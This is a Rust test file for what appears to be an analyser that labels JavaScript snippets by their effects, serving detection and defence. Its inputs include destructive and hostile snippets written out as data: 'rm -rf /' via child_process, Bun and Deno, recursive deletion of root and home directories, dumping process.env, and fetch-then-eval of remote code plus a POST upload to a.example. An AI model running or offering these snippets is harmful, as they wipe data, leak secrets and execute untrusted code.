use super::check;

#[test]
fn processes() {
    check(
        "javascript",
        &[
            ("require('child_process').execSync('rm -rf /')", "sh rm -rf /"),
            ("const {execSync}=require('child_process'); execSync('ls')", "sh ls"),
            ("const {execSync: e}=require('node:child_process'); e(\"ls\")", "sh ls"),
            ("const cp=require('child_process'); cp.spawnSync('rm',['-rf','/'])", "run rm -rf /"),
            (
                "const cp=require('child_process'); cp.execFileSync('git', ['reset', '--hard'], {stdio: 'inherit'})",
                "run git reset --hard",
            ),
            ("import {exec} from 'child_process'; exec('ls', (e, out) => console.log(out))", "sh ls"),
            ("import * as cp from 'child_process'; cp.exec('ls')", "sh ls"),
            ("(await import('child_process')).execSync('ls')", "sh ls"),
            ("require('child_process').execSync(`rm -rf /`)", "sh rm -rf /"),
            (
                "require('child_process').execSync(`rm -rf ${d}`)",
                "execute Inline child_process.execSync(…); sh rm -rf ${_unknown_to_us}",
            ),
            ("require('child_process').execSync(process.argv[2])", "execute Inline child_process.execSync(…)"),
            ("const cmd = 'rm -rf /'; require('child_process').exec(cmd)", "sh rm -rf /"),
            ("console.log(`${require('child_process').execSync('ls')}`)", "sh ls"),
            ("await $`rm -rf /`", "sh rm -rf /"),
            ("await Bun.$`rm -rf ${x}`.text()", "execute Inline Bun.$(…); sh rm -rf ${_unknown_to_us}"),
            ("eval(\"require('child_process').execSync('ls')\")", "sh ls"),
            ("new Function(\"require('fs').unlinkSync('a')\")()", "delete a"),
            ("process.mainModule.require('child_process').execSync('ls')", "sh ls"),
        ],
    );
}

#[test]
fn files_and_network() {
    check(
        "javascript",
        &[
            ("require('fs').rmSync('/',{recursive:true,force:true})", "delete-tree /"),
            ("require('fs').rmSync('a')", "delete a"),
            ("const fs=require('fs'); fs.rmSync(process.env.HOME, {recursive: true})", "delete-tree /home/u"),
            ("const fs=require('fs'),os=require('os'); fs.rmSync(os.homedir(), {recursive: true})", "delete-tree /home/u"),
            (
                "const fs=require('fs'), path=require('path'); fs.rmSync(path.join(require('os').homedir(), 'x'), {recursive: true})",
                "delete-tree /home/u/x",
            ),
            ("const fs=require('fs'); fs.rmSync(`${process.env.HOME}/x`, {recursive: true})", "delete-tree /home/u/x"),
            ("import {rm} from 'fs/promises'; await rm('/x', {recursive: true})", "delete-tree /x"),
            ("import fs from 'node:fs';\nfs.promises.rm('x', { recursive: true });\n", "delete-tree x"),
            ("const fs = require('fs').promises; fs.unlink('a')", "delete a"),
            ("const rimraf=require('rimraf'); rimraf('/')", "delete-tree /"),
            ("['a','b'].forEach(f => fs.unlinkSync(f))", "delete a; delete b"),
            ("for (const d of ['a','b']) { fs.rmSync(d, {recursive:true}) }", "delete-tree a; delete-tree b"),
            ("files.forEach(fs.unlinkSync)", "delete …"),
            ("Deno.removeSync('/x', { recursive: true })", "delete-tree /x"),
            ("fs.rmSync(d, opts)", "delete-tree ${d}"),
            ("fs['rmSync']('/x')", "delete /x"),
            ("console.log(require('fs').readFileSync('.env','utf8'))", "read .env; harmless"),
            ("fs.writeFileSync('a', JSON.stringify({}))", "write a Truncate"),
            ("fs.renameSync('a','b')", "move a b"),
            ("console.log(process.env)", "disclose environment"),
            ("console.log(JSON.stringify(process.env))", "disclose environment"),
            ("console.log(Object.keys(process.env))", "harmless"),
            ("for (const [k,v] of Object.entries(process.env)) console.log(k, v)", "disclose environment"),
            ("fetch('https://a.example/x').then(r => r.text()).then(eval)", "network a.example; execute Fetched eval(…)"),
            ("eval(await (await fetch('https://a.example/x')).text())", "network a.example; execute Fetched eval(…)"),
            ("fetch('https://a.example', {method:'POST', body: x})", "upload a.example"),
            ("fs.readFileSync(0, 'utf8')", "harmless"),
            ("console.log(require('./package.json').version)", "read ./package.json; harmless"),
            ("fs.rmSync(path.join(process.cwd(), 'dist'), {recursive: true})", "delete-tree ./dist"),
            ("new Deno.Command('rm', {args: ['-rf', '/']}).output()", "run rm -rf /"),
        ],
    );
}

#[test]
fn nothing_to_see() {
    check(
        "javascript",
        &[
            ("console.log('git reset --hard')", "harmless"),
            ("console.log(process.env.HOME)", "harmless"),
            ("console.log(1 / 2, 3 / 4)", "harmless"),
            ("// require('child_process').execSync('rm -rf /')\nconsole.log(1)", "harmless"),
            ("/* fs.rmSync('/') */ console.log(1)", "harmless"),
            ("console.log('execSync(\"rm -rf /\")')", "harmless"),
            ("console.log(/execSync('rm')/.test('a'))", "harmless"),
            ("const x = '/'.replace(/[/'\"]/g, ''); console.log(x)", "harmless"),
            ("console.log(`a ${1 + 1} b`)", "harmless"),
            ("const o = {rm: 1, exec: 2}; console.log(o.rm)", "harmless"),
            ("console.log([1,2,3].map(x => x * 2).join(','))", "harmless"),
            ("JSON.parse('{\"a\":1}')", "harmless"),
            ("foo()", ""),
            ("require('./x')", ""),
            ("/re/.exec('x')", ""),
            ("`unterminated ${", "harmless"),
        ],
    );
}
